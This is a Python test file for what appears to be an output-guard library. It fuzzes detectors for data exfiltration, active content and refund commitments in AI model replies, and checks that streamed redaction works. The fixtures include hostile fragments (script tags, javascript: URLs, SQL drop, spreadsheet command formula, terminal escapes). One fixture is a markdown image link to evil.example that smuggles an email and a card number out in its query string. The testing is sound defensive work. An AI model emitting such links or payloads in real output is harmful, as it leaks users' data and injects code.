"""Any text at all, and any piece of one."""

from hypothesis import given
from hypothesis import strategies as st

from redoubt import compose
from redoubt.domain.decision import Action, Decision, Obligation
from redoubt.domain.exchange import Role, Segment, Syntax, Trust
from redoubt.engine.detect.interface import Detector, Unit
from redoubt.engine.detect.scan import scan
from redoubt.engine.effects.active import ActiveContentDetector
from redoubt.engine.effects.address import parse
from redoubt.engine.effects.carries import carries
from redoubt.engine.effects.commitments import CommitmentDetector
from redoubt.engine.effects.exfiltration import ExfiltrationDetector
from redoubt.engine.effects.fences import Code, lead
from redoubt.engine.effects.sentences import LONGEST, sentences
from redoubt.engine.redact.methods import Methods
from redoubt.engine.redact.restore import Restorer
from redoubt.engine.stream import LaneStream

RULES = compose.detector()
DETECTORS: tuple[Detector, ...] = (
    ExfiltrationDetector(),
    ActiveContentDetector(),
    CommitmentDetector(allow=("refund within 30 days",)),
)
MARKUP = [
    "![",
    "[a]",
    "](",
    "[a]: ",
    ")",
    "<",
    ">",
    "<img src=",
    "<script>",
    "</script>",
    "onload=",
    '"',
    "'",
    "`",
    "```\n",
    "~~~\n",
    "\\",
    "&#58;",
]
ADDRESS = [
    "https://",
    "//",
    "evil.example",
    "?x=",
    "&y=",
    "%41",
    "#",
    "/",
    "javascript:",
    "data:text/html,",
    "url(",
    "aGVsbG8gd29ybGQh",
]
HIDDEN = ["\u200b", "\u00ad", "\U000e0041", "\ud800", "\x1b[", "\x1b]52;"]
WORDS = [
    "{{",
    "}}",
    "${",
    "<%",
    "%>",
    "a(b)",
    "DROP TABLE a;",
    "=cmd|",
    "\n",
    " ",
    ",",
    ".",
    "?",
    "We will refund ",
    "you the full amount",
    "1",
    "€",
]
BITS = st.sampled_from(MARKUP + ADDRESS + HIDDEN + WORDS)
TEXTS = st.one_of(st.text(max_size=300), st.lists(BITS, max_size=40).map("".join))
ROLES = st.sampled_from([Role.ASSISTANT, Role.TOOL_CALL])


@given(TEXTS, ROLES, st.sampled_from(list(Syntax)))
def test_any_text_gives_findings_that_lie_in_it_in_order(text: str, role: Role, syntax: Syntax) -> None:
    for detector in DETECTORS:
        findings = tuple(detector.detect(Segment(text, role, Trust.MODEL, "", syntax)))
        assert [f.start for f in findings] == sorted(f.start for f in findings)
        for finding in findings:
            assert 0 <= finding.start < finding.end <= len(text)
            assert 0.0 < finding.confidence <= 1.0


@given(TEXTS, st.booleans())
def test_any_address_is_read_and_judged(url: str, loads: bool) -> None:
    address = parse(url)
    assert address is None or 0.0 <= carries(address, loads=loads) <= 1.0


@given(TEXTS)
def test_sentences_are_in_order_and_apart(text: str) -> None:
    end = 0
    for start, stop in sentences(text):
        assert end <= start < stop <= len(text)
        assert stop - start <= LONGEST + 12
        end = stop


@given(TEXTS)
def test_code_is_where_a_backtick_or_a_tilde_is(text: str) -> None:
    code = Code(text)
    if "`" not in text and "~~~" not in text:
        assert not any(code.holds(place) for place in range(len(text)))


TICKS = st.lists(
    st.sampled_from(
        ["`", "``", "```", "~~~", "\n", "\n```", "\n```\n", "- ", " ", "word ", "a", "so it goes on "]
    ),
    max_size=30,
).map("".join)


@given(TICKS, st.integers(0, 200))
def test_what_stands_for_the_beginning_of_a_text_leaves_the_rest_as_it_was(text: str, at: int) -> None:
    at = min(at, len(text))
    before = lead(text, at)
    whole, rest = Code(text), Code(before + text[at:])
    assert len(before) <= at
    for place in range(at, len(text)):
        assert rest.holds(place - at + len(before)) == whole.holds(place), (before, place)


PARTS = (
    "Here is what you asked for, word by word.",
    "\n\n```html\n" + "<p>so it goes</p>\n" * 40 + "<script>run()</script>\n```\n",
    "\n~~~~\n" + "a line of it\n" * 60 + "~~~\n<script>run()</script>\n~~~~\n",
    "And this is said in one line, which goes on for so long that nobody remembers how it began, with `code` ```\n",
    "One may write `<script>run()</script>` as well. ",
    " <script>run()</script> ",
    "We guarantee you a full refund. ",
)


@given(
    st.lists(st.sampled_from(PARTS), max_size=6).map("".join),
    st.sampled_from(list(Unit)),
    st.integers(1, 700),
)
def test_a_stream_finds_outside_of_code_what_is_found_in_the_whole(text: str, unit: Unit, size: int) -> None:
    def found(piece: str) -> Decision:
        seen = scan(DETECTORS, Segment(piece, Role.ASSISTANT, Trust.MODEL)).findings
        return Decision(obligations=tuple(Obligation(f, Action.FLAG, "r") for f in seen))

    lane = LaneStream(found, Restorer(), Methods(b"k" * 32), unit=unit)
    assert (
        "".join([*(lane.feed(text[i : i + size]) for i in range(0, len(text), size)), lane.close()]) == text
    )
    kinds = ("code.active",) if unit is Unit.WORD else ("code.active", "commitment.refund")
    told = {
        (f.category, f.end) for f in (o.finding for o in lane.decision.obligations) if f.category in kinds
    }
    assert told == {
        (f.category, f.end) for f in (o.finding for o in found(text).obligations) if f.category in kinds
    }


@given(st.lists(st.integers(1, 9), min_size=1, max_size=60), st.sampled_from(["plain words here. ", ""]))
def test_no_chunking_lets_an_image_out(sizes: list[int], before: str) -> None:
    image = "![a](https://evil.example/p.png?d=jane.doe@acme-widgets.com&c=4111111111111111)"
    text = before + image + " and more."
    seen: set[str] = set()

    def inspect(piece: str) -> Decision:
        found = scan((RULES, *DETECTORS), Segment(piece, Role.ASSISTANT, Trust.MODEL)).findings
        seen.update(f.category for f in found)
        return Decision(obligations=tuple(Obligation(f, Action.REDACT, "r") for f in found))

    lane = LaneStream(inspect, Restorer(), Methods(b"k" * 32))
    released, at = "", 0
    while at < len(text):
        for size in sizes:
            released += lane.feed(text[at : at + size])
            at += size
    released += lane.close()
    assert released == before + "[REDACTED:leak.exfiltration] and more."
    assert seen >= {"leak.exfiltration", "pii.email", "finance.card"}, (
        "the values in the link are found beside it"
    )
